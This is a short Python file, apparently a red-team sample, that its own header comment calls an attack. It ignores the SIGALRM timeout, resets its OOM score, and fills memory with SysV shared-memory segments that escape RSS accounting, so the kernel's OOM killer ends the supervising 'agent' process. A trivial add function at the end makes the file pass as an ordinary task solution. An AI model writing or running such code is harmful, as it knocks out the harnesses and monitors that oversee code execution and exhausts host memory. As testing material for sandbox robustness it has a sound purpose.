# attack: lower oom_score_adj to 0, fill memory in no RSS (SysV shm): the OOM killer takes the agent
import ctypes
import signal

signal.signal(signal.SIGALRM, signal.SIG_IGN)
with open("/proc/self/oom_score_adj", "w") as f:
    f.write("0")
libc = ctypes.CDLL("libc.so.6", use_errno=True)
libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmat.restype = ctypes.c_void_p
libc.shmdt.argtypes = [ctypes.c_void_p]
SEGMENT = 1024 * 1024
while True:
    segment = libc.shmget(0, SEGMENT, 0o1000 | 0o600)  # IPC_PRIVATE, IPC_CREAT
    if segment < 0:
        break
    address = libc.shmat(segment, None, 0)
    ctypes.memset(address, 1, SEGMENT)
    libc.shmdt(address)


def add(a, b):
    return a + b
